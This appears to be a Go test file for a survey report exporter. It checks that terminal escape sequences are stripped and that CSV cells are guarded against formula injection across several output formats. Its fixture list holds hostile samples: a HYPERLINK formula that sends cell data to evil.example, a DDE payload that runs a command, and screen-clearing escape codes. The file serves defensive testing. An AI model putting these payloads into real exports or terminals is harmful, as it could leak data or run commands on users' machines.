package report

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/fieldsurvey/fieldsurvey/survey"
)

func TestControlFilter(t *testing.T) {
	in := "a\x1b[2Jb\x07c\td\ne\r\u009b31mf\x7fg\u00a0h\x00"
	for _, c := range []struct {
		json bool
		want string
	}{
		{false, "a[2Jbc\td\ne\r31mfg\u00a0h"},
		{true, `a\u001b[2Jb\u0007c` + "\td\ne\r" + `\u009b31mf\u007fg` + "\u00a0h" + `\u0000`},
	} {
		// Whole, and one byte at a time (a C1 character split between two writes).
		for _, step := range []int{len(in), 1} {
			var out bytes.Buffer
			f := &controlFilter{w: &out, json: c.json}
			for i := 0; i < len(in); i += step {
				if n, err := f.Write([]byte(in[i:min(i+step, len(in))])); err != nil || n != min(step, len(in)-i) {
					t.Fatalf("Write = %d, %v", n, err)
				}
			}
			if err := f.Close(); err != nil {
				t.Fatal(err)
			}
			if out.String() != c.want {
				t.Errorf("json %v, step %d: got %q, want %q", c.json, step, out.String(), c.want)
			}
		}
	}
}

func TestCellText(t *testing.T) {
	for in, want := range map[string]string{
		"plain":                          "plain",
		"=HYPERLINK(\"http://x\",\"y\")": "'=HYPERLINK(\"http://x\",\"y\")",
		"+1+1":                           "'+1+1",
		"-2+3":                           "'-2+3",
		"@SUM(A1:A9)":                    "'@SUM(A1:A9)",
		"\t=1+1":                         " =1+1",
		"\r\n=1+1":                       "\n=1+1",
		"-5":                             "-5",
		"+84":                            "+84",
		"42,5":                           "42,5",
		"-3.25":                          "-3.25",
		"-":                              "'-",
		"-1.":                            "'-1.",
		"- not assessed yet":             "'- not assessed yet",
		"evil\x1b]0;pwned\x07 text":      "evil]0;pwned text",
		"C1 \u009b2J here":               "C1 2J here",
		"Việt":                           "Việt",
	} {
		if got := CellText(in, true); got != want {
			t.Errorf("CellText(%q) = %q, want %q", in, got, want)
		}
	}
	// xlsx cells are strings, never formulas: nothing is prefixed there.
	if got := CellText("=1+1", false); got != "=1+1" {
		t.Errorf("cellText for xlsx = %q", got)
	}
}

// hostile is text an answer could hold: terminal escape sequences (OSC retitle, clear
// screen, 8-bit CSI), a bell, DEL, and spreadsheet formulas.
var hostile = []string{
	"evil\x1b]0;pwned\x07 \x1b[2Jcleared",
	"8-bit CSI \u009b31m red \u009b0m",
	"del\x7f and nul\x00 end",
	`=HYPERLINK("http://evil.example/?"&A1,"click")`,
	"+1+cmd|' /C calc'!A0",
	"-2+3",
	"@SUM(A1:A9)",
}

const idHostile = "0193a5b2-7c1e-7000-8000-0000000000e1"

func hostileReport(t *testing.T, lang string) *Report {
	t.Helper()
	b := newBuilder(t)
	b.interview(idHostile, "mini-odra", survey.Respondent{Agency: hostile[3], Province: "Đà Nẵng\x1b[2J", Role: hostile[0], Date: "2026-11-20"})
	b.answer(idHostile, "1.1", survey.Answer{Rating: survey.Green, Comment: strings.Join(hostile, "\n"),
		Evidence: []survey.Evidence{{Polarity: survey.Plus, Text: hostile[1], Source: hostile[4], InScope: true},
			{Polarity: survey.Minus, Text: hostile[2], InScope: false, Note: hostile[0]}}})
	b.answer(idHostile, "2.1", survey.Answer{Value: hostile[6]})
	b.answer(idHostile, "2.5", survey.Answer{Value: -5.0})
	b.add(idHostile, survey.KindSection, "1", survey.SectionSummary{Rating: survey.Amber, Comment: hostile[5]})
	states, err := survey.Fold(b.revs)
	if err != nil {
		t.Fatal(err)
	}
	r, err := Build(testQuestionnaire(t), []*survey.InterviewState{states[idHostile]}, Options{Lang: lang})
	if err != nil {
		t.Fatal(err)
	}
	return r
}

// controlRunes returns the control characters (but tab and line ends) in s.
func controlRunes(s string) []rune {
	var out []rune
	for _, r := range s {
		if isControl(r) && r != '\n' && r != '\t' && r != '\r' {
			out = append(out, r)
		}
	}
	return out
}

func TestHostileAnswersInEveryFormat(t *testing.T) {
	r := hostileReport(t, "en")
	for name, w := range map[string]writer{
		"text":     textAt(100, nil),
		"markdown": func(b *bytes.Buffer, r *Report) error { return WriteMarkdown(b, r) },
		"html":     func(b *bytes.Buffer, r *Report) error { return WriteHTML(b, r) },
		"csv":      func(b *bytes.Buffer, r *Report) error { return WriteCSV(b, r, CSVOptions{}) },
		"json":     func(b *bytes.Buffer, r *Report) error { return WriteJSON(b, r) },
	} {
		out := string(render(t, r, w))
		if !utf8.ValidString(out) {
			t.Errorf("%s: not valid UTF-8", name)
		}
		if c := controlRunes(out); len(c) > 0 {
			t.Errorf("%s: control characters reach the output: %q", name, c)
		}
		// The visible text of the answers survives.
		for _, want := range []string{"pwned", "cleared", "8-bit CSI", "del", "HYPERLINK"} {
			if !strings.Contains(out, want) {
				t.Errorf("%s lost the text %q", name, want)
			}
		}
	}
	// The interview text of the HTML is escaped, not markup.
	html := string(render(t, r, func(b *bytes.Buffer, r *Report) error { return WriteHTML(b, r) }))
	if !strings.Contains(html, "=HYPERLINK(&#34;http://evil.example/?&#34;&amp;A1") {
		t.Error("the HTML does not escape the answer")
	}
}

// JSON keeps every answer exactly: the control characters are escaped, not dropped.
func TestHostileJSONIsLossless(t *testing.T) {
	r := hostileReport(t, "en")
	out := render(t, r, func(b *bytes.Buffer, r *Report) error { return WriteJSON(b, r) })
	for _, esc := range []string{`\u001b]0;pwned\u0007`, `\u009b31m`, `\u007f`, `\u0000`} {
		if !bytes.Contains(out, []byte(esc)) {
			t.Errorf("the JSON does not escape %s", esc)
		}
	}
	var doc struct {
		Format string `json:"format"`
		Report
	}
	if err := json.Unmarshal(out, &doc); err != nil {
		t.Fatal(err)
	}
	got := doc.Interviews[0].Sections[0].Rows[0]
	if got.Comment != strings.Join(hostile, "\n") || got.Evidence[1].Note != hostile[0] {
		t.Errorf("the JSON does not give the answer back: %q", got.Comment)
	}
}

func TestHostileCSV(t *testing.T) {
	r := hostileReport(t, "en")
	out := render(t, r, func(b *bytes.Buffer, r *Report) error { return WriteCSV(b, r, CSVOptions{}) })
	recs, err := csv.NewReader(bytes.NewReader(out)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	col := map[string]int{}
	for i, h := range recs[0] {
		col[h] = i
	}
	for _, rec := range recs[1:] {
		for i, cell := range rec {
			if cell != "" && strings.IndexByte("=+-@\t\r", cell[0]) >= 0 && !plainNumber(cell) {
				t.Errorf("column %s holds a formula a spreadsheet would run: %q", recs[0][i], cell)
			}
		}
	}
	row := func(question, kind string) []string {
		for _, rec := range recs[1:] {
			if rec[col["question"]] == question && rec[col["kind"]] == kind {
				return rec
			}
		}
		t.Fatalf("no row %s %s", question, kind)
		return nil
	}
	r11 := row("1.1", "question")
	if got := r11[col["agency"]]; got != `'=HYPERLINK("http://evil.example/?"&A1,"click")` {
		t.Errorf("agency = %q", got)
	}
	if got := r11[col["province"]]; got != "Đà Nẵng[2J" {
		t.Errorf("province = %q", got)
	}
	if r11[col["evidence_plus"]] != "1" || r11[col["evidence_minus"]] != "0" || r11[col["evidence_out_of_scope"]] != "1" {
		t.Errorf("evidence counts + %s - %s out %s", r11[col["evidence_plus"]], r11[col["evidence_minus"]], r11[col["evidence_out_of_scope"]])
	}
	// A comment's later lines start with + and @: a cell is one value, only its start counts.
	if got := r11[col["comment"]]; !strings.HasPrefix(got, "evil]0;pwned") || !strings.Contains(got, "\n@SUM(A1:A9)") {
		t.Errorf("comment = %q", got)
	}
	if got := row("", "overall")[col["comment"]]; got != "'-2+3" {
		t.Errorf("overall comment = %q", got)
	}
	if got := row("2.1", "question")[col["value"]]; got != "'@SUM(A1:A9)" {
		t.Errorf("value 2.1 = %q", got)
	}
	if got := row("2.5", "question")[col["value"]]; got != "-5" {
		t.Errorf("a negative number is a number, not a formula: %q", got)
	}
}

func TestCSVExcelBOM(t *testing.T) {
	r := build(t, Options{Lang: "vi"})
	plain := render(t, r, func(b *bytes.Buffer, r *Report) error { return WriteCSV(b, r, CSVOptions{}) })
	bom := render(t, r, func(b *bytes.Buffer, r *Report) error { return WriteCSV(b, r, CSVOptions{BOM: true}) })
	if bytes.HasPrefix(plain, []byte("\xef\xbb\xbf")) {
		t.Error("the BOM is written without being asked for")
	}
	if !bytes.Equal(bom, append([]byte("\xef\xbb\xbf"), plain...)) {
		t.Error("with BOM the CSV is not the BOM followed by the same bytes")
	}
}

func TestExportedFilters(t *testing.T) {
	var b bytes.Buffer
	w := EscapeJSONControls(&b)
	if err := json.NewEncoder(w).Encode("a\x1b\u009bb"); err != nil {
		t.Fatal(err)
	}
	w.Close()
	var back string
	if err := json.Unmarshal(b.Bytes(), &back); err != nil || back != "a\x1b\u009bb" {
		t.Errorf("JSON through EscapeJSONControls: %q decodes to %q (%v)", b.String(), back, err)
	}
	if c := controlRunes(b.String()); len(c) > 0 {
		t.Errorf("raw control characters: %q", c)
	}
	b.Reset()
	w = StripControls(&b)
	w.Write([]byte("a\x1b[2J\u009bb\n"))
	w.Close()
	if b.String() != "a[2Jb\n" {
		t.Errorf("StripControls: %q", b.String())
	}
}
